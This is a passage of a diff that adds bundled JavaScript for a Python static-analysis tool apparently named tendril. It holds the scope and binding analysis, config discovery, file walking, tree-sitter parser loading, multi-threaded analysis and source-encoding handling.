+        // `(x := ...)` binds in the nearest enclosing scope that is not a comprehension.
+        let scope = this.scopeAt(node.startIndex);
+        while (scope.kind === 'comprehension' && scope.parent)
+            scope = scope.parent;
+        this.bind(scope, name, 'walrus', node, node.endIndex);
+    }
+    caseClause(node) {
+        const body = node.childForFieldName('consequence');
+        this.patterns.push({ start: node.startIndex, end: body ? body.startIndex : node.endIndex });
+    }
+    assignment(node) {
+        const left = node.childForFieldName('left');
+        const right = node.childForFieldName('right');
+        const type = node.childForFieldName('type');
+        this.pushTarget(node, left, right ? 'assignment' : 'annotation-only', node.endIndex);
+        if (type) {
+            this.annotations.push({ start: type.startIndex, end: type.endIndex, deferred: this.futureAnnotations });
+            // `X: TypeAlias = "Node | None"`: the value is a type expression.
+            if (right && /(^|\.)TypeAlias$/.test(type.text.trim()))
+                this.typeRegions.push({ start: right.startIndex, end: right.endIndex });
+        }
+        if (right && /__all__[ \t]*[:=]/y.test(this.text.slice(node.startIndex, node.startIndex + 12))) {
+            if (left?.type === 'identifier' && left.text === '__all__')
+                this.exportsFrom(node, right);
+        }
+    }
+    augmentedAssignment(node) {
+        const left = node.childForFieldName('left');
+        this.pushTarget(node, left, 'augmented', node.endIndex);
+        if (/__all__[ \t]*\+=/y.test(this.text.slice(node.startIndex, node.startIndex + 12))) {
+            const right = node.childForFieldName('right');
+            if (left?.type === 'identifier' && left.text === '__all__' && right)
+                this.exportsFrom(node, right);
+        }
+    }
+    asPattern(node) {
+        const alias = node.childForFieldName('alias');
+        if (alias?.type !== 'as_pattern_target')
+            return; // `case ... as name` is handled as a pattern
+        const owner = node.parent;
+        if (owner?.type === 'with_item')
+            this.pushTarget(node, alias, 'with', owner.endIndex);
+        else if (owner?.type === 'except_clause')
+            this.pushTarget(node, alias, 'except', node.endIndex, owner.endIndex);
+    }
+    typeAlias(node) {
+        const left = node.childForFieldName('left');
+        const right = node.childForFieldName('right');
+        const scope = this.scopeAt(node.startIndex);
+        // `type X = ...` / `type X[T] = ...`: binds X; the parameters belong to the alias alone.
+        const inner = left?.firstNamedChild;
+        const name = inner?.type === 'identifier' ? inner : inner?.type === 'generic_type' ? inner.firstNamedChild : null;
+        if (name?.type === 'identifier')
+            this.bind(scope, name, 'type-alias', node, node.endIndex);
+        if (inner?.type === 'generic_type') {
+            for (const list of inner.namedChildren) {
+                if (list?.type === 'type_parameter')
+                    this.typeParameterNames(list, (identifier) => this.handled.add(identifier.startIndex));
+            }
+        }
+        // The value is evaluated lazily, when the alias is used.
+        if (right)
+            this.annotations.push({ start: right.startIndex, end: right.endIndex, deferred: true });
+    }
+    // --- imports ---------------------------------------------------------------------------------
+    importStatement(node) {
+        this.importEnd = node.endIndex;
+        const scope = this.scopeAt(node.startIndex);
+        for (const item of node.childrenForFieldName('name')) {
+            if (!item)
+                continue;
+            const dotted = item.type === 'aliased_import' ? item.childForFieldName('name') : item;
+            const alias = item.type === 'aliased_import' ? item.childForFieldName('alias') : null;
+            if (!dotted || dotted.type !== 'dotted_name')
+                continue;
+            const parts = dotted.namedChildren.filter((c) => c?.type === 'identifier');
+            if (parts.length === 0)
+                continue;
+            const module = parts.map((p) => p.text).join('.');
+            const info = {
+                module,
+                qualifiedName: module,
+                alias: alias?.text,
+                nameNode: dotted,
+                aliasNode: alias ?? undefined,
+                explicitReExport: alias !== null && alias.text === module,
+                submodule: alias === null && parts.length > 1,
+                statement: node,
+            };
+            this.bind(scope, alias ?? parts[0], 'import', node, node.endIndex, { info });
+        }
+    }
+    importFromStatement(node, kind) {
+        this.importEnd = node.endIndex;
+        const scope = this.scopeAt(node.startIndex);
+        const moduleNode = node.childForFieldName('module_name');
+        const module = kind === 'future-import' ? '__future__' : moduleNode ? moduleNode.text.replace(/\s+/g, '') : '';
+        for (const child of node.namedChildren) {
+            if (child?.type === 'wildcard_import')
+                scope.starImports.push(node);
+        }
+        for (const item of node.childrenForFieldName('name')) {
+            if (!item)
+                continue;
+            const dotted = item.type === 'aliased_import' ? item.childForFieldName('name') : item;
+            const alias = item.type === 'aliased_import' ? item.childForFieldName('alias') : null;
+            if (!dotted)
+                continue;
+            const member = dotted.text;
+            const named = alias ?? dotted.firstNamedChild ?? dotted;
+            const info = {
+                module,
+                member,
+                qualifiedName: module.endsWith('.') ? module + member : `${module}.${member}`,
+                alias: alias?.text,
+                nameNode: dotted,
+                aliasNode: alias ?? undefined,
+                explicitReExport: alias !== null && alias.text === member,
+                submodule: false,
+                statement: node,
+            };
+            if (kind === 'future-import' && member === 'annotations')
+                this.futureAnnotations = true;
+            this.bind(scope, named, kind, node, node.endIndex, { info });
+        }
+    }
+    // --- strings used as types -----------------------------------------------------------------
+    string(node) {
+        const start = node.startIndex;
+        if (this.handledStrings.has(start))
+            return;
+        // Only strings in an annotation or in a typing construct can be types; skip the rest cheaply.
+        if (!this.annotations.at(start) && !this.typeRegions.at(start))
+            return;
+        if (node.type === 'concatenated_string') {
+            for (const part of node.namedChildren)
+                if (part)
+                    this.handledStrings.add(part.startIndex);
+        }
+        if (!isTypeString(node))
+            return;
+        const value = stringValue(node, this.text);
+        if (value === undefined)
+            return;
+        const names = forwardReferenceNames(value, this.context.tree.language, 0);
+        if (!names)
+            return;
+        const scope = this.scopeAt(start);
+        for (const name of new Set(names))
+            this.read(node, 'string-annotation', scope, name, true);
+    }
+    /** The dotted chain before the `(` of a call or the `[` of a subscript at `index`. */
+    chainAt(index, bracket) {
+        CHAIN.lastIndex = index;
+        const match = CHAIN.exec(this.text);
+        if (!match || match[3] !== bracket)
+            return undefined;
+        return { dotted: match[1] !== '', last: match[2] };
+    }
+    subscript(node) {
+        const chain = this.chainAt(node.startIndex, '[');
+        if (chain && (chain.last === 'Annotated' || TYPE_FORMS.has(chain.last))) {
+            this.typeRegions.push({ start: node.startIndex, end: node.endIndex });
+        }
+    }
+    // --- calls, __all__, control flow -----------------------------------------------------------
+    call(node) {
+        const chain = this.chainAt(node.startIndex, '(');
+        if (!chain)
+            return;
+        if (!chain.dotted && (chain.last === 'locals' || chain.last === 'vars')) {
+            // `locals()` / `vars()` without arguments expose every name of the scope.
+            const args = node.childForFieldName('arguments');
+            if (node.childForFieldName('function')?.type === 'identifier' && args?.namedChildCount === 0) {
+                this.scopeAt(node.startIndex).usesLocals = true;
+            }
+            return;
+        }
+        if (TYPE_CALLS.has(chain.last)) {
+            this.typeRegions.push({ start: node.startIndex, end: node.endIndex });
+            return;
+        }
+        if (chain.dotted && (chain.last === 'extend' || chain.last === 'append') && this.text.startsWith('__all__', node.startIndex)) {
+            const callee = node.childForFieldName('function');
+            const object = callee?.childForFieldName('object');
+            const args = node.childForFieldName('arguments');
+            if (object?.type === 'identifier' && object.text === '__all__' && args) {
+                for (const arg of args.namedChildren)
+                    if (arg)
+                        this.exportsFrom(node, arg);
+            }
+        }
+    }
+    /** Records the string items of an `__all__` value at module level. */
+    exportsFrom(statement, value) {
+        const scope = this.scopeAt(statement.startIndex);
+        if (scope.kind !== 'module')
+            return;
+        const visit = (node) => {
+            switch (node.type) {
+                case 'string':
+                case 'concatenated_string': {
+                    const name = stringValue(node, this.text);
+                    if (name !== undefined) {
+                        this.exports.push({ name, node });
+                        this.read(node, 'export', scope, name, true);
+                    }
+                    return;
+                }
+                case 'list':
+                case 'tuple':
+                case 'parenthesized_expression':
+                case 'binary_operator':
+                case 'argument_list':
+                    for (const child of node.namedChildren)
+                        if (child)
+                            visit(child);
+                    return;
+                case 'call': {
+                    const callee = node.childForFieldName('function');
+                    const args = node.childForFieldName('arguments');
+                    if (callee?.type === 'identifier' && (callee.text === 'list' || callee.text === 'tuple') && args)
+                        visit(args);
+                    return;
+                }
+            }
+        };
+        visit(value);
+    }
+    ifStatement(node) {
+        IF_TYPE_CHECKING.lastIndex = node.startIndex;
+        const match = IF_TYPE_CHECKING.exec(this.text);
+        if (!match)
+            return;
+        if (!match[1]) {
+            const body = node.childForFieldName('consequence');
+            if (body)
+                this.typeCheckingRanges.push([body.startIndex, body.endIndex]);
+        }
+        else {
+            for (const branch of node.childrenForFieldName('alternative')) {
+                if (branch?.type === 'else_clause')
+                    this.typeCheckingRanges.push([branch.startIndex, branch.endIndex]);
+            }
+        }
+    }
+    tryStatement(node) {
+        const body = node.childForFieldName('body');
+        if (!body)
+            return;
+        const catches = node.namedChildren.some((clause) => {
+            if (clause?.type !== 'except_clause')
+                return false;
+            const caught = clause.namedChildren.find((c) => c && c.type !== 'block' && c.type !== 'comment');
+            const types = caught?.type === 'as_pattern' ? caught.firstNamedChild : caught;
+            return types ? IMPORT_ERROR.test(types.text) : false;
+        });
+        if (catches)
+            this.importGuardRanges.push([body.startIndex, body.endIndex]);
+    }
+    // --- resolution -----------------------------------------------------------------------------
+    finish() {
+        for (const scope of this.scopes) {
+            for (const list of scope.byName.values())
+                list.sort((a, b) => a.at - b.at);
+        }
+        for (const reference of this.references) {
+            const binding = lookup(reference.scope, reference.name, reference.at, reference.deferred);
+            if (binding) {
+                reference.binding = binding;
+                binding.references.push(reference);
+            }
+            else {
+                for (let s = reference.scope; s; s = s.parent) {
+                    if (s.starImports.length > 0)
+                        reference.maybeStar = true;
+                }
+            }
+        }
+        return {
+            module: this.scopes[0],
+            scopes: this.scopes,
+            bindings: this.bindings,
+            references: this.references,
+            exports: this.exports,
+            futureAnnotations: this.futureAnnotations,
+        };
+    }
+}
+/** The shared scope/binding analysis; see the comment at the top of this file. */
+exports.scopes = {
+    name: 'scopes',
+    create(context) {
+        return new ScopeBuilder(context).visitor();
+    },
+};
+
+
+/***/ }),
+
+/***/ 973:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.findConfig = findConfig;
+const fs = __importStar(__nccwpck_require__(896));
+const path = __importStar(__nccwpck_require__(928));
+/**
+ * The configuration file used when none is named: in the root, `tendril.toml`, then
+ * `.tendril.toml`, then `pyproject.toml` (whose `[tool.tendril]` table is read; without one it
+ * sets nothing, but it must still be valid TOML, as other Python tools also require).
+ */
+function findConfig(root) {
+    for (const name of ['tendril.toml', '.tendril.toml', 'pyproject.toml']) {
+        const file = path.join(root, name);
+        if (fs.existsSync(file))
+            return file;
+    }
+    return undefined;
+}
+
+
+/***/ }),
+
+/***/ 757:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.analyzeSource = analyzeSource;
+const fingerprint_1 = __nccwpck_require__(938);
+const context_1 = __nccwpck_require__(173);
+const parser_1 = __nccwpck_require__(715);
+const source_1 = __nccwpck_require__(433);
+const walk_1 = __nccwpck_require__(721);
+/** Orders analyses so that each comes after the ones it builds on. */
+function analysesFor(rules) {
+    const ordered = [];
+    const visit = (analysis) => {
+        if (ordered.includes(analysis))
+            return;
+        for (const dep of analysis.uses ?? [])
+            visit(dep);
+        ordered.push(analysis);
+    };
+    for (const rule of rules)
+        for (const analysis of rule.uses ?? [])
+            visit(analysis);
+    return ordered;
+}
+/** The first ERROR or MISSING node, for the syntax-error notification's position. */
+function firstSyntaxError(tree) {
+    const cursor = tree.walk();
+    try {
+        for (;;) {
+            if (cursor.nodeType === 'ERROR' || cursor.nodeIsMissing)
+                return cursor.currentNode;
+            const node = cursor.currentNode;
+            if (node.hasError && cursor.gotoFirstChild())
+                continue;
+            while (!cursor.gotoNextSibling())
+                if (!cursor.gotoParent())
+                    return undefined;
+        }
+    }
+    finally {
+        cursor.delete();
+    }
+}
+/**
+ * Analyses one file's bytes: decode, parse once, walk once with every enabled rule (and the shared
+ * analyses they use), then fingerprint the lines that have findings. Never throws for bad input:
+ * what cannot be analysed becomes a notification.
+ */
+async function analyzeSource(path, bytes, rules, options = {}) {
+    const notifications = [];
+    const result = { path, findings: [], notifications };
+    const decoded = (0, source_1.decodeSource)(bytes);
+    if (!decoded.ok) {
+        notifications.push({ level: 'error', id: 'file-undecodable', path, message: `${path} was not analysed: it ${decoded.reason}.` });
+        return result;
+    }
+    const parser = await (0, parser_1.getParser)();
+    const tree = parser.parse(decoded.text);
+    if (!tree) {
+        notifications.push({ level: 'error', id: 'internal-error', path, message: `${path} was not analysed: the parser gave up on it.` });
+        return result;
+    }
+    try {
+        let active = rules;
+        if (tree.rootNode.hasError) {
+            const at = firstSyntaxError(tree);
+            const skipped = rules.filter((rule) => rule.meta.needsCleanParse).map((rule) => rule.meta.id);
+            active = rules.filter((rule) => !rule.meta.needsCleanParse);
+            const line = at ? at.startPosition.row + 1 : undefined;
+            const column = at ? at.startPosition.column + 1 : undefined;
+            notifications.push({
+                level: 'warning',
+                id: 'syntax-error',
+                path,
+                line,
+                column,
+                message: `${path} has a syntax error` +
+                    (line ? ` at line ${line}, column ${column}` : '') +
+                    (skipped.length ? `; rules that need the whole file were skipped there: ${skipped.join(', ')}.` : '.'),
+            });
+        }
+        const context = new context_1.FileContext(path, decoded.text, tree, options);
+        const visitors = [];
+        for (const analysis of analysesFor(active))
+            visitors.push(analysis.create(context));
+        for (const rule of active)
+            visitors.push(rule.create(context));
+        (0, walk_1.walk)(tree, visitors);
+        for (const visitor of visitors)
+            visitor.end?.();
+        result.findings = context.findings;
+    }
+    catch (error) {
+        notifications.push({
+            level: 'error',
+            id: 'internal-error',
+            path,
+            message: `${path} was not fully analysed: internal error: ${error instanceof Error ? error.message : String(error)}`,
+        });
+    }
+    finally {
+        tree.delete();
+    }
+    if (result.findings.length > 0) {
+        // Hashed over the bytes as codeql-action reads them (UTF-8, BOM kept), not the decoded text.
+        const hashes = (0, fingerprint_1.lineHashes)(Buffer.from(bytes).toString('utf8'), new Set(result.findings.map((f) => f.line)));
+        for (const finding of result.findings)
+            finding.lineHash = hashes.get(finding.line);
+    }
+    return result;
+}
+
+
+/***/ }),
+
+/***/ 173:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.FileContext = void 0;
+/**
+ * What a rule sees of one file. Rules report through `report`; positions come from the node, so
+ * rules never compute columns themselves (tree-sitter columns are UTF-16 units, 0-based; SARIF
+ * wants UTF-16 units, 1-based).
+ */
+class FileContext {
+    path;
+    text;
+    tree;
+    ruleOptions;
+    findings = [];
+    analyses = new Map();
+    constructor(
+    /** Path relative to the analysis root, with `/` separators. */
+    path, 
+    /** Decoded source text. */
+    text, tree, ruleOptions = {}) {
+        this.path = path;
+        this.text = text;
+        this.tree = tree;
+        this.ruleOptions = ruleOptions;
+    }
+    /** A rule option: the user's value (validated with the settings) or the default in the metadata. */
+    option(rule, name) {
+        const spec = rule.options?.[name];
+        if (!spec)
+            throw new Error(`rule ${rule.id} has no option '${name}'`);
+        return (this.ruleOptions[rule.id]?.[name] ?? spec.default);
+    }
+    /** Text of a node (UTF-16 indices, straight from the source string). */
+    textOf(node) {
+        return this.text.slice(node.startIndex, node.endIndex);
+    }
+    report(rule, node, message) {
+        this.reportRange(rule, node.startPosition, node.endPosition, message);
+    }
+    reportRange(rule, start, end, message) {
+        this.findings.push({
+            ruleId: rule.id,
+            path: this.path,
+            line: start.row + 1,
+            column: start.column + 1,
+            endLine: end.row + 1,
+            endColumn: end.column + 1,
+            message,
+        });
+    }
+    /** Publishes the result of a shared analysis (see src/analysis). */
+    setAnalysis(name, value) {
+        this.analyses.set(name, value);
+    }
+    /** The result of a shared analysis the rule declared in `uses`; read it in `end`. */
+    analysis(name) {
+        if (!this.analyses.has(name))
+            throw new Error(`analysis '${name}' was not run for ${this.path}`);
+        return this.analyses.get(name);
+    }
+}
+exports.FileContext = FileContext;
+
+
+/***/ }),
+
+/***/ 935:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.DEFAULT_EXCLUDES = void 0;
+exports.findRoot = findRoot;
+exports.discover = discover;
+const fs = __importStar(__nccwpck_require__(896));
+const path = __importStar(__nccwpck_require__(928));
+const errors_1 = __nccwpck_require__(916);
+/** Directories never descended into (by name), wherever they are. */
+exports.DEFAULT_EXCLUDES = [
+    '.git', '.hg', '.svn', '.venv', 'venv', 'node_modules', 'build', 'dist', '__pycache__',
+    '.tox', '.nox', '.mypy_cache', '.pytest_cache', '.ruff_cache', '.tendril_cache',
+];
+function toRel(root, abs) {
+    return path.relative(root, abs).split(path.sep).join('/');
+}
+function inside(root, abs) {
+    const rel = path.relative(root, abs);
+    return rel === '' || (!rel.startsWith('..') && !path.isAbsolute(rel));
+}
+/** The git work tree that holds `dir`, or `dir` itself: the default root for URIs. */
+function findRoot(dir) {
+    let current = path.resolve(dir);
+    for (;;) {
+        if (fs.existsSync(path.join(current, '.git')))
+            return current;
+        const parent = path.dirname(current);
+        if (parent === current)
+            return path.resolve(dir);
+        current = parent;
+    }
+}
+/**
+ * Expands the paths to analyse into Python files under `root`: directories are walked (sorted,
+ * default excludes skipped, symbolic links to directories not followed, so no loop and no escape),
+ * `*.py` files are taken; a file named explicitly is taken whatever its name. A file reached
+ * through a link is taken only if its target is inside the root. The result is sorted and
+ * deduplicated, so the same tree always gives the same list.
+ */
+function discover(root, paths) {
+    const realRoot = fs.realpathSync(root);
+    const files = new Map();
+    const notifications = [];
+    const addFile = (abs, stat) => {
+        const rel = toRel(root, abs);
+        if (!files.has(rel))
+            files.set(rel, { abs, rel, size: stat.size });
+    };
+    const linkTargetInside = (abs) => {
+        try {
+            const target = fs.realpathSync(abs);
+            if (!inside(realRoot, target))
+                return undefined;
+            return fs.statSync(target);
+        }
+        catch {
+            return undefined;
+        }
+    };
+    const walkDir = (dir) => {
+        let entries;
+        try {
+            entries = fs.readdirSync(dir, { withFileTypes: true });
+        }
+        catch (error) {
+            const rel = toRel(root, dir) || '.';
+            notifications.push({
+                level: 'error',
+                id: 'file-unreadable',
+                path: rel,
+                message: `Directory ${rel} could not be read (${error.code ?? 'error'}); files below it were not analysed.`,
+            });
+            return;
+        }
+        entries.sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
+        for (const entry of entries) {
+            const abs = path.join(dir, entry.name);
+            if (entry.isDirectory()) {
+                if (!exports.DEFAULT_EXCLUDES.includes(entry.name))
+                    walkDir(abs);
+            }
+            else if (entry.name.endsWith('.py')) {
+                if (entry.isFile())
+                    addFile(abs, fs.statSync(abs));
+                else if (entry.isSymbolicLink()) {
+                    const stat = linkTargetInside(abs);
+                    if (stat?.isFile())
+                        addFile(abs, stat);
+                }
+            }
+        }
+    };
+    for (const given of paths) {
+        const abs = path.resolve(given);
+        if (!inside(root, abs)) {
+            throw new errors_1.UsageError(`${given} is outside the analysis root ${root}; run from inside it or pass --root`);
+        }
+        let stat;
+        try {
+            stat = fs.statSync(abs);
+        }
+        catch {
+            throw new errors_1.UsageError(`path not found: ${given}`);
+        }
+        if (stat.isDirectory())
+            walkDir(abs);
+        else if (stat.isFile())
+            addFile(abs, stat);
+        else
+            throw new errors_1.UsageError(`not a file or directory: ${given}`);
+    }
+    return {
+        files: [...files.values()].sort((a, b) => (a.rel < b.rel ? -1 : a.rel > b.rel ? 1 : 0)),
+        notifications,
+    };
+}
+
+
+/***/ }),
+
+/***/ 715:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.getParser = getParser;
+const fs = __importStar(__nccwpck_require__(896));
+const path = __importStar(__nccwpck_require__(928));
+const web_tree_sitter_1 = __nccwpck_require__(778);
+/**
+ * Loads tree-sitter (WebAssembly) and the Python grammar once per thread.
+ *
+ * Both `.wasm` files are read from disk and handed over as bytes: next to the bundle in `dist/`
+ * (copied there by `scripts/build.js`), or from `node_modules` when running from source.
+ */
+const WASM_FILES = {
+    runtime: { file: 'tree-sitter.wasm', pkg: 'web-tree-sitter' },
+    python: { file: 'tree-sitter-python.wasm', pkg: 'tree-sitter-python' },
+};
+function locateWasm(which) {
+    const { file, pkg } = WASM_FILES[which];
+    const candidates = [
+        path.join(__dirname, file), // dist/ bundle
+        path.join(__dirname, '..', '..', 'node_modules', pkg, file), // src/engine when run from source
+    ];
+    for (const candidate of candidates) {
+        if (fs.existsSync(candidate))
+            return candidate;
+    }
+    throw new Error(`cannot find ${file} (looked in ${candidates.join(', ')})`);
+}
+let ready;
+/** The thread's parser, created on first use. */
+function getParser() {
+    if (!ready) {
+        ready = (async () => {
+            await web_tree_sitter_1.Parser.init({ wasmBinary: fs.readFileSync(locateWasm('runtime')) });
+            const language = await web_tree_sitter_1.Language.load(fs.readFileSync(locateWasm('python')));
+            const parser = new web_tree_sitter_1.Parser();
+            parser.setLanguage(language);
+            return parser;
+        })();
+    }
+    return ready;
+}
+
+
+/***/ }),
+
+/***/ 138:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.analyzeFile = analyzeFile;
+exports.analyzeFiles = analyzeFiles;
+const fs = __importStar(__nccwpck_require__(896));
+const worker_threads_1 = __nccwpck_require__(167);
+const analyze_1 = __nccwpck_require__(757);
+/** Reads and analyses one file; an unreadable file becomes a notification. */
+async function analyzeFile(file, rules, options) {
+    let bytes;
+    try {
+        bytes = await fs.promises.readFile(file.abs);
+    }
+    catch (error) {
+        const code = error.code ?? 'error';
+        return {
+            path: file.rel,
+            findings: [],
+            notifications: [
+                { level: 'error', id: 'file-unreadable', path: file.rel, message: `${file.rel} could not be read (${code}).` },
+            ],
+        };
+    }
+    return (0, analyze_1.analyzeSource)(file.rel, bytes, rules, options);
+}
+/**
+ * Analyses files on `jobs` worker threads, largest files first so no thread is left with a big
+ * file at the end. Results come back in the order of `files`, whatever the thread count, so the
+ * output is the same bytes for any `--jobs`.
+ */
+async function analyzeFiles(files, rules, ruleOptions, options) {
+    const threads = Math.min(options.jobs, files.length);
+    if (threads <= 1 || !options.workerScript) {
+        const results = [];
+        for (const file of files)
+            results.push(await analyzeFile(file, rules, ruleOptions));
+        return results;
+    }
+    const results = new Array(files.length);
+    const order = files.map((_, i) => i).sort((a, b) => files[b].size - files[a].size || a - b);
+    let next = 0;
+    const setup = { tendrilWorker: true, ruleIds: rules.map((r) => r.meta.id), options: ruleOptions };
+    const script = options.workerScript;
+    await Promise.all(Array.from({ length: threads }, () => new Promise((resolve, reject) => {
+        const worker = new worker_threads_1.Worker(script, { workerData: setup });
+        const feed = () => {
+            if (next >= order.length) {
+                void worker.terminate().then(() => resolve());
+                return;
+            }
+            const index = order[next++];
+            worker.postMessage({ index, file: files[index] });
+        };
+        worker.on('message', (message) => {
+            results[message.index] = message.result;
+            feed();
+        });
+        worker.once('error', reject);
+        worker.once('online', feed);
+    })));
+    return results;
+}
+
+
+/***/ }),
+
+/***/ 433:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.codingDeclaration = codingDeclaration;
+exports.decodeSource = decodeSource;
+const util_1 = __nccwpck_require__(23);
+const CODING = /^[ \t\f]*#.*?coding[:=][ \t]*([-\w.]+)/;
+/** PEP 263: the declaration must be on line 1 or 2 (line 2 only if line 1 is a comment or blank). */
+function codingDeclaration(bytes) {
+    const head = Buffer.from(bytes.subarray(0, 512)).toString('latin1');
+    const lines = head.split(/\r\n|\r|\n/, 2);
+    const first = CODING.exec(lines[0] ?? '');
+    if (first)
+        return first[1].toLowerCase();
+    if (lines.length > 1 && /^[ \t\f]*(#.*)?$/.test(lines[0])) {
+        const second = CODING.exec(lines[1]);
+        if (second)
+            return second[1].toLowerCase();
+    }
+    return undefined;
+}
+function normaliseEncoding(name) {
+    const n = name.replace(/_/g, '-');
+    if (n === 'utf8' || n.startsWith('utf-8'))
+        return 'utf-8';
+    if (n === 'latin-1' || n === 'latin1' || n.startsWith('iso-8859-1') || n.startsWith('iso-latin-1'))
+        return 'latin1';
+    return n;
+}
+function decodeSource(bytes) {
+    if (bytes.includes(0)) {
+        return { ok: false, reason: 'contains NUL bytes (Python refuses such source; binary file?)' };
+    }
+    let body = bytes;
+    const hasBom = bytes.length >= 3 && bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf;
+    if (hasBom)
+        body = bytes.subarray(3);
+    const declared = codingDeclaration(body);
+    const encoding = hasBom || !declared ? 'utf-8' : normaliseEncoding(declared);
+    let decoder;
+    try {
+        decoder = new util_1.TextDecoder(encoding, { fatal: true, ignoreBOM: true });
+    }
+    catch {
+        return { ok: false, reason: `declares an encoding this tool does not know: '${declared}'` };
+    }
+    try {
+        return { ok: true, text: decoder.decode(body), encoding: decoder.encoding };
+    }
+    catch {
+        return {
+            ok: false,
+            reason: declared
+                ? `is not valid ${declared} as its coding declaration says`
+                : 'is not valid UTF-8 and has no coding declaration',
+        };
+    }
+}
+
+
+/***/ }),
+
+/***/ 721:
+/***/ ((__unused_webpack_module, exports) => {
+
+
